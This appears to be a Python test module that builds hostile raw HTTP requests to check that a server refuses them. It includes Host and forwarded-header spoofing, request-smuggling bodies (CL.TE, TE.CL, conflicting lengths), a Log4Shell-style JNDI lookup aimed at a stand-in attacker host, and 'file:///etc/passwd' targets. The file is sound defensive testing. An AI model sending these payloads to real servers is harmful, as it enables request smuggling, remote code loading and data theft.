"""Hostile requests: what can be wrong around the address, from the method to the body."""

from __future__ import annotations

from collections.abc import Iterator

from tests.journeys.raw_requests import EVIL, HOST, UNIT, Hostile, head


def methods() -> Iterator[Hostile]:
    for method in (b"POST", b"PUT", b"PATCH", b"DELETE", b"TRACE", b"PROPFIND", b"LINK", b"QUERY"):
        yield Hostile(f"method {method!r}", head(method=method), refused=True)
    for method in (
        b"get",
        b"G\xc9T",
        b"GE\x00T",
        b"GET\t",
        b"",
        b"G" * 9000,
        b"GET GET",
        b"\r\nGE",
    ):
        yield Hostile(f"method {method[:9]!r} of {len(method)}", head(method=method), refused=True)
    yield Hostile("CONNECT", head(EVIL + b":443", method=b"CONNECT"), refused=True)
    yield Hostile("OPTIONS *", head(b"*", method=b"OPTIONS"))
    yield Hostile("GET *", head(b"*"), refused=True)
    for name in (b"X-HTTP-Method-Override", b"X-Method-Override", b"X-HTTP-Method"):
        yield Hostile(f"{name!r}", head(UNIT, name + b": DELETE"))


def versions() -> Iterator[Hostile]:
    for version in (b"HTTP/2.0", b"HTTP/3.0", b"HTTP/1.1x", b"HTTP/x", b"HTTP/", b"HTTP/0.9"):
        yield Hostile(f"version {version!r}", head(version=version), refused=True)
    for version in (b"http/1.1", b"HTTP/11", b"HTTP/-1.1", b"ICY/1.1", b"HTTP /1.1"):
        yield Hostile(f"version {version!r}", head(version=version), refused=True)
    for version in (b"HTTP/1.2", b"HTTP/1.10"):
        yield Hostile(f"version {version!r}", head(version=version))
    yield Hostile("preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", refused=True)
    yield Hostile("a handshake of TLS", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n")


def hosts() -> Iterator[Hostile]:
    """Hosts that are not ours, or almost."""
    for host in (
        *(EVIL, EVIL + b":80", b"x@" + EVIL, HOST + b"@" + EVIL, EVIL + b"@" + HOST, b""),
        *(HOST + b":x", HOST + b":-1", HOST + b"." + EVIL, HOST + b"," + EVIL, HOST + b" " + EVIL),
        *(HOST + b"/" + EVIL, HOST + b"?" + EVIL, HOST + b"#" + EVIL, HOST + b"\\" + EVIL),
        *(HOST + b"\x00." + EVIL, HOST + b"%00." + EVIL, b"l\xd0\xbecalhost", b"xn--lcalhost-x"),
        *(b"[::1", b"::1", b"[evil.example]", b"[::1]x", b"127.1", b"0x7f000001", b"a" * 5000),
        *(b"http://" + HOST, b"*", b".", b"..", b"-", b"_", b"'\"><script>", b"$host", b"unix:/x"),
    ):
        yield Hostile(f"Host {host[:30]!r} of {len(host)}", head(host=host), refused=True)
    yield Hostile("no Host", head(host=None), refused=True)
    yield Hostile("two Hosts", head(UNIT, b"Host: " + EVIL), refused=True)
    yield Hostile("two equal Hosts", head(UNIT, b"Host: " + HOST), refused=True)
    yield Hostile("folded Host", head(host=HOST + b"\r\n " + EVIL), refused=True)
    yield Hostile("space before the colon", head(UNIT, b"Host : " + EVIL, host=None), refused=True)
    for host in (b"LOCALHOST", HOST + b":99999", HOST + b":", b"[::1]", b"127.0.0.1", HOST + b"."):
        yield Hostile(f"Host {host!r}", head(host=host))


def absolute() -> Iterator[Hostile]:
    for target in (
        *(b"http://" + EVIL + UNIT, b"https://" + EVIL + UNIT, b"http://" + EVIL, b"ftp://" + EVIL),
        *(b"http://" + EVIL + b"?x", b"http://" + HOST + b"@" + EVIL + UNIT, b"http:///" + EVIL),
        *(b"http://" + EVIL + b"@" + HOST + UNIT, b"HTTP://" + EVIL.upper() + UNIT, b"http://"),
        *(b"http:" + UNIT, b"http://" + EVIL + b"\\@" + HOST + UNIT, b"http://[::1" + UNIT),
        *(EVIL + b":80", EVIL + UNIT, b"?x", b"#", b"javascript:alert(1)", b"file:///etc/passwd"),
    ):
        yield Hostile(f"target {target!r}", head(target))


def forwarded() -> Iterator[Hostile]:
    """What a caller says of where it comes from and of who we are, on answers with addresses."""
    for line in (
        *(b"X-Forwarded-Host: " + EVIL, b"X-Forwarded-Server: " + EVIL, b"X-Host: " + EVIL),
        *(b"X-Forwarded-Proto: javascript", b"X-Forwarded-Scheme: gopher", b"X-Url-Scheme: x"),
        *(
            b"X-Forwarded-Port: 99999",
            b"X-Forwarded-Prefix: //" + EVIL,
            b"X-Script-Name: //" + EVIL,
        ),
        *(b"Forwarded: host=" + EVIL + b";proto=gopher", b"X-Original-URL: /api/v1/units"),
        *(b"X-Rewrite-URL: //" + EVIL, b"Script_Name: //" + EVIL, b"X_Forwarded_Host: " + EVIL),
        *(b"X-Forwarded-For: " + b"1.2.3.4, " * 300 + EVIL, b"X-Real-IP: \xff", b"Via: " + EVIL),
        *(b"Origin: http://" + EVIL, b"Referer: http://" + EVIL, b"X-Original-Host: " + EVIL),
        *(b"X-Request-Id: http://" + EVIL, b"X-Accel-Redirect: /x", b"Proxy: http://" + EVIL),
    ):
        name = f"{line[:40]!r}"
        yield Hostile(name, head(UNIT, line))
        yield Hostile(f"{name}, links", head(UNIT + b"?linkType=linkset", line))


def lengths() -> Iterator[Hostile]:
    """Bodies that end at two places at once, or nowhere (RFC 9112 6.3: request smuggling)."""
    inner = b"GET /smuggled HTTP/1.1\r\nHost: " + EVIL + b"\r\n\r\n"
    for value in (
        b"-1",
        b"+5",
        b"0x5",
        b"5, 5",
        b"5, 6",
        b"1_0",
        b"5 5",
        b"5.0",
        b"1e1",
        b"\xd9\xa5",
    ):
        yield _posted(f"Content-Length {value!r}", b"hello", b"Content-Length: " + value)
    yield _posted("an endless Content-Length", b"hello", b"Content-Length: " + b"9" * 40)
    yield _posted("two lengths", inner, b"Content-Length: 0", b"Content-Length: 5")
    yield _posted("two equal lengths", b"hello", b"Content-Length: 5", b"Content-Length: 5")
    yield _posted("an empty length", inner, b"Content-Length:")
    chunked = b"0\r\n\r\n" + inner
    yield _posted("CL.TE", chunked, b"Content-Length: 5", b"Transfer-Encoding: chunked")
    yield _posted("TE.CL", chunked, b"Transfer-Encoding: chunked", b"Content-Length: 500")
    yield _posted("space before the length's colon", b"hello", b"Content-Length : 5")


def codings() -> Iterator[Hostile]:
    """Transfer codings that one reader understands and the next one does not."""
    for value in (
        *(b"xchunked", b"chunked, identity", b"identity", b"chunked, chunked", b"gzip, chunked"),
        *(b"\x0bchunked", b"chunked\x00", b'"chunked"', b"chunked;q=1", b"x", b"", b"cow"),
    ):
        line = b"Transfer-Encoding: " + value
        yield _posted(f"coding {value!r}", b"0\r\n\r\n", line, b"Content-Length: 5")
        yield _posted(f"coding {value!r} alone", b"0\r\n\r\n", line)
    two = (b"Transfer-Encoding: chunked", b"Transfer-Encoding: x")
    yield _posted("two codings", b"0\r\n\r\n", *two)
    yield _posted("space before the coding's colon", b"0\r\n\r\n", b"Transfer-Encoding : chunked")
    for size in (b"-1", b"0x5", b"5_0", b"+5", b"g", b"", b" 5", b"F" * 40, b"5;x=\x00", b"5\n"):
        sent = size + b"\r\nhello\r\n0\r\n\r\n"
        yield _posted(f"chunk of {size!r}", sent, b"Transfer-Encoding: chunked")


def _posted(name: str, body: bytes, *lines: bytes) -> Hostile:
    """A body for the admin API without a key, which is refused whatever its length is."""
    sent = head(b"/api/v1/units", *lines, method=b"POST") + body
    return Hostile(name, sent, refused=True, unfinished=True)


def lines() -> Iterator[Hostile]:
    """Headers that are none."""
    for line in (
        *(b"no colon at all", b": no name", b"a b: c", b"X\x00: y", b"X: \x00", b"X\xff: y"),
        *(b" leading: space", b"X: y\r\n folded", b"X: a\rY: b", b"(X): y", b"X\t: y", b"X: \x7f"),
        *(b"X: " + b"y" * 9000, b"X" * 9000 + b": y", b"\r\n".join([b"X: y"] * 101)),
    ):
        yield Hostile(f"line {line[:20]!r} of {len(line)}", head(UNIT, line))
    bare = head().replace(b"\r\n", b"\n")
    yield Hostile("line ends without CR", bare, unfinished=True)
    yield Hostile("line ends without LF", head().replace(b"\r\n", b"\r"), unfinished=True)
    yield Hostile("a hundred empty lines first", b"\r\n" * 100 + head(), unfinished=True)
    yield Hostile("a million octets of nothing", b"\x00" * 1_000_000, unfinished=True)
    yield Hostile("HTTP/0.9", b"GET " + UNIT + b"\r\n", unfinished=True)
    yield Hostile("only a line end", b"\r\n\r\n", unfinished=True)


def accepted() -> Iterator[Hostile]:
    """Wishes, conditions and papers that are nonsense: they are passed over or refused."""
    for line in (
        *(b"Accept: \xff\xfe", b"Accept: */*;q=nan", b"Accept: */*;q=1e999", b"Accept: ;;;,,,"),
        *(b"Accept: " + b"a/b;q=0.1," * 700, b"Accept: */" + b"*" * 4000, b'Accept: a/b;x="\\'),
        *(
            b"Accept-Language: " + b"de," * 2500,
            b"Accept-Language: \xc3\xa9",
            b"Accept-Language: -",
        ),
        *(b"Accept-Language: " + b"a" * 8000, b"Accept-Encoding: \xff", b"Accept-Charset: x;q=x"),
        *(b'If-None-Match: "', b"If-None-Match: W/W/*", b"If-None-Match: " + b'"a",' * 1500),
        *(b"If-Match: \xff", b"If-Modified-Since: 99 Foo", b"If-Range: x", b"Range: bytes=9-1,-0"),
        *(
            b"Range: bytes=" + b"0-," * 2000,
            b"Expect: 200-ok",
            b"Cookie: \xff=\xff;" + b"a;" * 3000,
        ),
        *(b"Authorization: Bearer", b"Authorization: Bearer \xff", b"Authorization: Basic ===="),
        *(b"Upgrade: websocket", b"Upgrade: h2c\r\nHTTP2-Settings: x", b"TE: trailers, x"),
        *(b"User-Agent: \x80\x81", b"User-Agent: ${jndi:ldap://" + EVIL + b"/x}", b"Date: x"),
    ):
        yield Hostile(f"{line[:40]!r} of {len(line)}", head(UNIT, line))
        if line.startswith((b"Accept", b"If")):
            yield Hostile(f"{line[:40]!r} for the page", head(b"/page" + UNIT, line))
    yield Hostile("a key of nobody", head(b"/api/v1/keys", b"Authorization: Bearer tmk_x"), True)


def bodies() -> Iterator[Hostile]:
    """Bodies nobody asked for, and bodies of strangers."""
    deep = b"[" * 50_000
    for name, body in (("deep JSON", deep), ("NUL", b"\x00" * 99), ("a form", b"a=1&" * 999)):
        length = b"Content-Length: %d" % len(body)
        kind = b"Content-Type: application/json"
        sent = head(b"/api/v1/products", length, kind, method=b"POST") + body
        yield Hostile(f"{name}, posted", sent, refused=True)
        yield Hostile(f"{name}, sent along", head(UNIT, length, kind) + body)
    huge = b"Content-Length: %d" % 10**12
    yield Hostile("a body of a terabyte", head(b"/api/v1/units", huge, method=b"POST"), True, True)
    yield Hostile("two requests at once", head().replace(b"close", b"keep-alive") + head())
